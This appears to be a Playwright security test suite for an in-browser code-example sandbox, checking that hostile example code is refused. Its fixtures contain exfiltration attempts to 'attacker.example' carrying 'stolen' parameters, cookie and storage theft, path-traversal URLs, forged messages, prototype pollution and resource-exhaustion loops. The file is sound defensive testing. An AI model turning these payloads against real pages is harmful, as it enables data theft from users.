import type { Page } from '@playwright/test';
import { startHarnessServer, type HarnessServer } from '../support/harness/harnessServer.ts';
import type { RunReport } from '../support/harness/harnessPage.ts';
import { GAME_FLAGS } from '../support/browserFlags.ts';
import { waitForFrames } from '../support/frames.ts';
import { expect, test } from './weakGpu.ts';
import { fullBrowser } from './fullBrowser.ts';

// The example is the attacker. Every attempt must fail without affecting the page.

test.use(fullBrowser(GAME_FLAGS));

let server: HarnessServer;
test.beforeAll(async () => {
  server = await startHarnessServer(['tests/fixtures/playground/public']);
});
test.afterAll(() => server.close());

test.beforeEach(async ({ page }) => {
  await page.goto(server.url);
  await page.waitForFunction(() => 'runExample' in window);
  await page.evaluate(() => {
    document.cookie = 'secret=cookie';
    localStorage.setItem('secret', 'storage');
  });
});

/** Runs an attack that logs how each attempt ended, and returns the report. */
async function attack(
  page: Page,
  code: string,
  until: 'done' | 'error' = 'done',
  limitMs = 40_000,
): Promise<RunReport> {
  return page.evaluate(
    ([text, end, limit]) => window.runExample({ files: [{ name: 'main.ts', text }], until: end, limitMs: limit }),
    [code, until, limitMs] as const,
  );
}

const ATTEMPT = `async function attempt(name: string, action: () => unknown) {
  try { console.log(name + ': ' + String(await action())); } catch (error) { console.log(name + ': refused'); }
}
`;

/** Ends an attack some frames later, when everything it has sent or asked for has arrived. */
const PRINT_DONE = `(function wait(frames: number) {
  if (frames === 0) console.log('done');
  else requestAnimationFrame(() => wait(frames - 1));
})(20)`;

const logged = (report: RunReport): string[] => report.logs.map(({ text }) => text);

async function expectPageUnharmed(page: Page): Promise<void> {
  const began = Date.now();
  await page.fill('#field', 'still here');
  expect(await page.inputValue('#field')).toBe('still here');
  expect(Date.now() - began).toBeLessThan(3_000);
  expect(page.url()).toBe(server.url);
  expect(await page.evaluate(() => [document.cookie, localStorage.getItem('secret')])).toEqual([
    'secret=cookie',
    'storage',
  ]);
  expect(await page.locator('iframe').count()).toBe(0);
}

test('reads nothing of the page: document, cookies, storage, files', async ({ page }) => {
  const report = await attack(
    page,
    `${ATTEMPT}
    const w = window as any;
    await attempt('parent document', () => w.parent.document.title);
    await attempt('top document', () => w.top.document.cookie);
    await attempt('parent location', () => w.parent.location.href);
    await attempt('frame element', () => { if (!w.frameElement) throw 0; return w.frameElement.id; });
    await attempt('parent globals', () => w.parent.runExample);
    await attempt('cookie', () => document.cookie);
    await attempt('set cookie', () => { document.cookie = 'secret=stolen'; return 'set'; });
    await attempt('local storage', () => localStorage.getItem('secret'));
    await attempt('session storage', () => sessionStorage.length);
    await attempt('indexed db', () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('open'); r.onerror = fail; }));
    await attempt('cache storage', () => caches.keys());
    await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
    await attempt('origin', () => { if (w.origin === 'null') throw 0; return w.origin; });
    console.log('done');`,
  );
  const lines = logged(report);
  expect(lines).toHaveLength(14);
  expect(lines.slice(0, 13).filter((line) => !line.endsWith(': refused'))).toEqual([]);
  await expectPageUnharmed(page);
});

test('reaches no network: the site, other hosts, sockets, beacons, workers', async ({ page }) => {
  const sent: string[] = [];
  page.on('requestfinished', (request) => sent.push(request.url()));
  const report = await attack(
    page,
    `${ATTEMPT}
    const w = window as any;
    const native = document.createElement('iframe'); document.body.append(native);
    const clean = native.contentWindow as any;
    await attempt('fetch', () => fetch('/'));
    await attempt('unpatched fetch', () => clean.fetch('${server.url}?stolen=1'));
    await attempt('fetch elsewhere', () => fetch('https://attacker.example/?stolen=1'));
    await attempt('xhr', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', '${server.url}?xhr=1'); x.send(); }));
    await attempt('socket', () => new Promise((done, fail) => { const s = new WebSocket('ws://attacker.example'); s.onopen = done; s.onerror = fail; }));
    await attempt('event source', () => new Promise((done, fail) => { const s = new EventSource('${server.url}?es=1'); s.onopen = done; s.onerror = fail; }));
    await attempt('worker', () => new Promise((done, fail) => { const u = URL.createObjectURL(new Blob(['postMessage(1)'])); const k = new Worker(u); k.onmessage = done; k.onerror = fail; }));
    await attempt('script', () => new Promise((done, fail) => { const s = document.createElement('script'); s.src = '${server.url}harness.js'; s.onload = done; s.onerror = fail; document.head.append(s); }));
    await attempt('image', () => new Promise((done, fail) => { const d = document.createElement('div'); d.innerHTML = '<img src="${server.url}kit/hero.png?pixel=1">'; const i = d.firstChild as HTMLImageElement; i.onload = done; i.onerror = fail; document.body.append(d); }));
    await attempt('style', () => new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${server.url}x.css'; l.onload = done; l.onerror = fail; document.head.append(l); }));
    await attempt('frame', () => new Promise((done, fail) => { const f = document.createElement('iframe'); f.src = '${server.url}?frame=1'; document.body.append(f); setTimeout(fail, 500); f.onload = () => { try { if (f.contentDocument === null) return; } catch {} }; }));
    await attempt('eval', () => (0, eval)('1 + 1'));
    navigator.sendBeacon?.('${server.url}?beacon=1', 'stolen');
    console.log('done');`,
  );
  const lines = logged(report).filter((line) => line.includes(': '));
  expect(lines).toHaveLength(12);
  expect(lines.filter((line) => !line.endsWith(': refused'))).toEqual([]);
  const reached = [...sent, ...server.requests];
  expect(reached.filter((url) => /stolen|xhr=|es=|frame=|beacon|pixel|attacker|x\.css/.test(url))).toEqual([]);
  await expectPageUnharmed(page);
});

test('cannot use the page to read files outside the kit', async ({ page }) => {
  const report = await attack(
    page,
    `${ATTEMPT}
    await attempt('private', () => fetch('/harness.js').then((r) => r.text()));
    await attempt('up', () => fetch('/kit/../harness.js').then((r) => r.text()));
    await attempt('encoded', () => fetch('/kit/%2e%2e/harness.js').then((r) => r.text()));
    await attempt('kit', () => fetch('/kit/hero.png').then((r) => r.blob()).then((b) => b.size > 0));
    console.log('done');`,
  );
  expect(logged(report)).toEqual(['private: refused', 'up: refused', 'encoded: refused', 'kit: true', 'done']);
  expect(report.errors[0]!.message).toContain('There is no asset "/harness.js". Available: /kit/');
});

test('cannot navigate the page, open windows or dialogs', async ({ page }) => {
  const popups: unknown[] = [];
  page.context().on('page', (popup) => popups.push(popup));
  page.on('dialog', (dialog) => popups.push(dialog));
  await attack(
    page,
    `${ATTEMPT}
    const w = window as any;
    await attempt('top', () => { w.top.location = 'https://attacker.example'; });
    await attempt('parent', () => { w.parent.location.href = 'https://attacker.example'; });
    await attempt('replace', () => { w.parent.location.replace('javascript:alert(1)'); });
    await attempt('link', () => { const a = document.createElement('a'); a.href = 'https://attacker.example'; a.target = '_top'; document.body.append(a); a.click(); });
    await attempt('form', () => { const f = document.createElement('form'); f.action = 'https://attacker.example'; f.target = '_top'; document.body.append(f); f.submit(); });
    await attempt('popup', () => { if (window.open('https://attacker.example') === null) throw 0; });
    await attempt('dialog', () => { alert('x'); confirm('x'); prompt('x'); print(); });
    await attempt('fullscreen', () => document.documentElement.requestFullscreen());
    console.log('done');`,
  );
  expect(popups).toEqual([]);
  await expectPageUnharmed(page);
});

test('leaks nothing through the URL when it navigates its own frame', async ({ page }) => {
  const reached: string[] = [];
  await page.route('https://attacker.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const report = await attack(page, `location.href = 'https://attacker.example/?secret=1';`, 'error');
  expect(report.ended).toBe(true);
  expect(reached).toEqual([]);
  await expectPageUnharmed(page);
});

test('is stopped when it leaves its own frame', async ({ page }) => {
  const report = await attack(page, `location.href = 'data:text/html,<h1>Log in</h1>';`, 'error');
  expect(report.errors.at(-1)!.message).toBe('The example tried to leave its frame, so it was stopped.');
  expect(report.ended).toBe(true);
  await expectPageUnharmed(page);
});

test('cannot forge messages: wrong nonce, wrong window, wrong shape', async ({ page }) => {
  const report = await attack(
    page,
    `const send = (m: unknown) => window.parent.postMessage(m, '*');
    send({ type: 'error', error: { kind: 'runtime', message: 'forged' }, nonce: 'guess' });
    send({ type: 'error', error: { message: 'forged' } });
    send('forged'); send(null); send({ type: '__proto__', nonce: '' });
    const inner = document.createElement('iframe');
    inner.srcdoc = '<script>parent.parent.postMessage({ type: "error", error: { message: "forged" } }, "*")</' + 'script>';
    document.body.append(inner);
    inner.onload = () => ${PRINT_DONE};`,
  );
  expect(report.errors).toEqual([]);
  expect(logged(report)).toContain('done');
  const other = await page.evaluate(async (printDone) => {
    const running = window.runExample({
      files: [{ name: 'main.ts', text: printDone }],
      until: 'done',
      limitMs: 40_000,
    });
    let isOver = false;
    void running.finally(() => (isOver = true));
    // Sent on every frame, so that some arrive before the example starts and some while it runs.
    while (!isOver) {
      window.postMessage({ type: 'error', error: { message: 'from the page itself' }, nonce: '' }, '*');
      await new Promise(requestAnimationFrame);
    }
    return running;
  }, PRINT_DONE);
  expect(other.errors).toEqual([]);
  await expectPageUnharmed(page);
});

test('cannot bend the page by prototypes', async ({ page }) => {
  await attack(
    page,
    `(Object.prototype as any).polluted = 'yes';
    (Array.prototype as any).map = () => { throw new Error('bent'); };
    (window as any).Promise = class {}; JSON.stringify = () => 'bent';
    console.log({ ['__proto__']: { polluted: 'yes' }, constructor: { prototype: { polluted: 'yes' } } });
    console.log(new Proxy({}, { ownKeys() { throw new Error('bent'); }, getPrototypeOf() { throw new Error('bent'); } }));
    console.log({ get x() { throw new Error('bent'); }, toString() { throw new Error('bent'); } });`,
    'error',
    5_000,
  );
  expect(await page.evaluate(() => ('polluted' in {} ? 'polluted' : JSON.stringify([1].map((x) => x))))).toBe('[1]');
  await expectPageUnharmed(page);
});

const RUNAWAYS: [name: string, code: string, message: RegExp][] = [
  ['an endless while', 'let n = 0;\nwhile (true) n++;', /The loop on line 2 ran for more than 3 seconds/],
  ['an endless for that catches everything', 'for (;;) { try { for (;;) {} } catch {} }', /The loop on line 1/],
  ['an endless loop in a frame', 'requestAnimationFrame(() => {\n  for (;;);\n});', /The loop on line 2/],
  [
    'an endless chain of promises',
    'const spin = async () => {\n  while (true) await null;\n};\nspin();',
    /The loop on line 2/,
  ],
  ['an endless loop that prints', 'let i = 0;\nwhile (true) console.log(i++);', /The loop on line 2/],
  ['endless recursion', 'const f = (): number => f() + 1;\nf();', /Maximum call stack/],
  [
    'a flood of raw messages',
    `const n = () => { for (let i = 0; i < 900; i++) parent.postMessage({ i }, '*'); setTimeout(n); };\nn();`,
    /flooded the page/,
  ],
  [
    'a loop inside the browser that the guard cannot see',
    'Array.prototype.forEach.call({ length: 2 ** 53 - 1 } as unknown[], () => {});',
    /stopped answering for 10 seconds/,
  ],
];
for (const [name, code, message] of RUNAWAYS) {
  test(`is stopped with a message: ${name}`, async ({ page }) => {
    const report = await attack(page, code, 'error');
    expect(report.errors[0]?.message).toMatch(message);
    await expectPageUnharmed(page);
  });
}

/** Types into the page for as long as an attack runs, and measures the longest time that the page took to react. */
async function typeWhile(page: Page, running: Promise<RunReport>): Promise<{ report: RunReport; slowestMs: number }> {
  let isOver = false;
  const report = running.finally(() => (isOver = true));
  let slowestMs = 0;
  for (let round = 0; !isOver; round += 1) {
    const start = performance.now();
    await page.fill('#field', String(round));
    await waitForFrames(page, 1);
    slowestMs = Math.max(slowestMs, performance.now() - start);
  }
  return { report: await report, slowestMs };
}

test('leaves the page free while it hangs', async ({ page }) => {
  const { report, slowestMs } = await typeWhile(page, attack(page, RUNAWAYS.at(-1)![1], 'error'));
  expect(report.errors[0]?.message).toContain('stopped answering');
  // The example hangs for ten seconds; a page that hung with it would react only after that.
  expect(slowestMs).toBeLessThan(5_000);
});

test('is stopped or refused when it takes memory without end', async ({ page }) => {
  const attempts = [
    'const hoard: unknown[] = []; setInterval(() => { for (let i = 0; i < 20; i++) hoard.push(new Array(1_000_000).fill(hoard.length + i)); }, 10);',
    'const big = new Uint8Array(2 ** 30).fill(1); console.log(big.length);',
    'console.log("x".repeat(2 ** 29).length); console.log("x".repeat(2 ** 30).length);',
  ];
  for (const code of attempts) {
    const { report, slowestMs } = await typeWhile(page, attack(page, code, 'error'));
    expect(slowestMs).toBeLessThan(10_000);
    if (code.startsWith('const hoard')) expect(report.errors[0]?.message).toMatch(/memory|stopped answering/);
    await expectPageUnharmed(page);
  }
});

test('cannot take the keyboard, and debugger statements do nothing', async ({ page }) => {
  await page.focus('#field');
  const report = await attack(
    page,
    `window.focus(); document.body.focus();
    const b = document.createElement('button'); document.body.append(b); b.focus();
    const d = document.createElement('dialog'); d.innerHTML = '<input autofocus>'; document.body.append(d); d.showModal();
    debugger;
    ${PRINT_DONE};`,
  );
  await page.keyboard.type('typed');
  expect(logged(report)).toContain('done');
  expect(await page.inputValue('#field')).toBe('typed');
});
